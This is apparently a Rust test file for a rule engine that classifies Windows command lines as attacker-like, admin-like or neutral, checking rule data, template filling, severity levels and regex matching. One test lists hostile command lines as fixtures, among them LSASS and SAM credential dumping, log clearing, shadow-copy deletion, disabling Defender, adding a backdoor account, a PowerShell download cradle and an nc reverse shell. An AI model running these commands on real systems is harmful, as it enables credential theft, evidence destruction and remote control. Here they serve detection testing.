//! The data and the code of the signals agree.

use std::collections::BTreeSet;

use super::*;

fn rows() -> &'static [Row] {
    &RULES.signal
}

#[test]
fn every_signal_has_its_code_or_its_patterns_and_a_source() {
    let known: BTreeSet<&str> = CHECKS.iter().map(|(id, _)| *id).collect();
    assert_eq!(known.len(), CHECKS.len(), "one piece of code for an id");
    for row in rows() {
        assert!(
            known.contains(row.id.as_str()) == row.commands.is_empty(),
            "{} needs either code or commands",
            row.id
        );
        assert!(
            !row.source.is_empty(),
            "{} says where it comes from",
            row.id
        );
        assert!(row.needs.as_deref() != Some(""), "{}", row.id);
    }
    let ids: BTreeSet<&str> = rows().iter().map(|row| row.id.as_str()).collect();
    assert_eq!(ids.len(), rows().len(), "ids are unique");
    let orphans: Vec<_> = known.difference(&ids).collect();
    assert!(orphans.is_empty(), "code without data: {orphans:?}");
    assert!(rows().len() >= 25);
}

#[test]
fn a_weight_is_positive_unless_the_signal_is_neutral() {
    for row in rows() {
        assert!(row.weight >= 0, "{}", row.id);
        assert_eq!(row.weight == 0, row.leans == Leans::Neutral, "{}", row.id);
    }
    for leans in [Leans::Admin, Leans::Attacker, Leans::Neutral] {
        assert!(rows().iter().any(|row| row.leans == leans));
    }
}

#[test]
fn a_signal_subsumes_known_ones_that_lean_its_way_and_weigh_no_more() {
    for row in rows() {
        for id in &row.subsumes {
            let other = rows().iter().find(|other| other.id == *id);
            let other = other.unwrap_or_else(|| panic!("{}: no signal `{id}`", row.id));
            assert_eq!(row.leans, other.leans, "{} and {id}", row.id);
            assert!(row.weight >= other.weight, "{} and {id}", row.id);
            assert!(!other.subsumes.contains(&row.id), "{} and {id}", row.id);
        }
    }
}

#[test]
fn texts_name_only_what_the_code_fills_in() {
    const FILLED: [&str; 40] = [
        "of",
        "account",
        "host",
        "source",
        "tool",
        "service",
        "server",
        "product",
        "window",
        "local",
        "reach",
        "uses",
        "hosts",
        "days",
        "hours",
        "whose",
        "kerberos",
        "ntlm",
        "workstation",
        "count",
        "subject",
        "address",
        "users",
        "name",
        "folder",
        "line",
        "program",
        "deed",
        "programs",
        "group",
        "member",
        "says",
        "span",
        "logs",
        "verb",
        "when",
        "by",
        "change",
        "threat",
        "?",
    ];
    for row in rows() {
        fill(&row.text, |name| {
            assert!(FILLED.contains(&name), "{}: {{{name}}}", row.id);
            String::new()
        });
        assert_eq!(
            row.text.contains("{deed}"),
            !row.commands.is_empty(),
            "{}",
            row.id
        );
    }
}

#[test]
fn what_is_filled_in_is_not_looked_at_again() {
    let text = fill("by {account} on {host}", |name| match name {
        "account" => "{host}".to_owned(),
        _ => "FS01".to_owned(),
    });
    assert_eq!(text, "by {host} on FS01");
    assert_eq!(fill("a { b", |_| String::new()), "a { b");
}

#[test]
fn levels_rise_with_the_score() {
    let levels = RULES.levels;
    let severities: Vec<Severity> = (-200..400).map(|score| levels.severity(score)).collect();
    assert!(severities.is_sorted());
    assert_eq!(levels.severity(0), Severity::Medium);
    assert_eq!(levels.leaning(0), Leaning::Undetermined);
    assert_eq!(levels.leaning(levels.attacker_from), Leaning::Attacker);
    assert_eq!(levels.leaning(levels.admin_to), Leaning::Admin);
}

#[test]
fn every_pattern_is_a_regular_expression() {
    for row in rows() {
        let all = (0..row.commands.len()).filter_map(|place| row.patterns.get(place));
        all.for_each(|pattern| pattern.check().unwrap());
    }
}

/// Which rows match a command line.
fn matched(line: &str) -> Vec<&'static str> {
    let rows = rows().iter().filter(|row| row.at_least == 1);
    rows.filter(|row| !row.patterns.matches(line).is_empty())
        .map(|row| row.id.as_str())
        .collect()
}

#[test]
fn command_lines_are_known_for_what_they_do() {
    for (line, id) in [
        (r"whoami  /all", "discovery"),
        (r#"net  group "Domain Admins" /domain"#, "discovery"),
        (
            r"C:\Windows\system32\net1 group admins /domain",
            "discovery",
        ),
        (r"nltest /domain_trusts", "discovery"),
        (r"reg save HKLM\SAM C:\Windows\Temp\s", "credential-access"),
        (
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 1028 C:\d.dmp full",
            "credential-access",
        ),
        (
            r"procdump64.exe -accepteula -ma lsass.exe out.dmp",
            "credential-access",
        ),
        (
            r#"ntdsutil "ac i ntds" "ifm" "create full c:\x" q q"#,
            "credential-access",
        ),
        (r"vssadmin create shadow /for=C:", "credential-access"),
        (r"wevtutil  cl Security", "tampering"),
        (r"vssadmin.exe delete shadows /all /quiet", "tampering"),
        (
            r"powershell Set-MpPreference -DisableRealtimeMonitoring $true",
            "tampering",
        ),
        (r"net user backdoor Passw0rd! /add", "account-created"),
        (r"powershell -nop -w hidden -c x", "encoded-powershell"),
        (
            r"powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
            "encoded-powershell",
        ),
        (
            r#"powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://x/y')""#,
            "download-cradle",
        ),
        (
            r"certutil.exe -urlcache -split -f http://x/y.exe y.exe",
            "download-cradle",
        ),
        (r"nc.exe 10.0.2.11 3001 -e cmd.exe", "reverse-shell"),
        (
            r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1556656369.7 2>&1",
            "output-to-own-share",
        ),
        (
            r"cmd.exe /C tasklist > %windir%\Temp\kQzXwVbT.tmp 2>&1",
            "captured-output",
        ),
        (
            r"cmd.exe /Q /c whoami 1> \Windows\Temp\abcdef 2>&1",
            "captured-output",
        ),
        (
            r"cmd /c C:\Windows\Temp\ossec-agent-win32.exe /S",
            "agent-installer",
        ),
        (
            r#""msiexec.exe" /i \\FS01\deploy$\7z2409-x64.msi /qn"#,
            "software-from-share",
        ),
        (
            r"C:\ProgramData\AnyDesk.exe --install",
            "remote-access-tool",
        ),
    ] {
        assert!(matched(line).contains(&id), "{line}: {:?}", matched(line));
    }
}

#[test]
fn ordinary_command_lines_mean_nothing() {
    for line in [
        r"ipconfig /flushdns",
        r"cmd.exe /c setup.exe /log C:\Windows\Temp\setup.log 2>&1",
        r#""gpupdate.exe" /force /target:computer"#,
        r"cmd /c set > c:\users\public\netstat.txt",
        r"C:\Tools\hostname-report\run.exe /daily",
        r"cmd /c type C:\ossec-agent\client.keys",
        r"wevtutil qe System /c:5",
        r"vssadmin list shadows",
        r"powershell.exe -NoProfile -File C:\Scripts\driftrapport.ps1",
        r"powershell -ExecutionPolicy Bypass -File backup.ps1",
        r"nc.exe -vz -w 3 10.20.30.5 8443",
        r"ffmpeg -f concat -i clips.txt -c copy moede.mp4",
        r"net use Z: \\FS01\share",
        r"netsh advfirewall show allprofiles",
        r"sc query windefend",
        r"msiexec /x {90160000-008C-0000-0000-0000000FF1CE} /qn",
    ] {
        assert_eq!(matched(line), Vec::<&str>::new(), "{line}");
    }
}
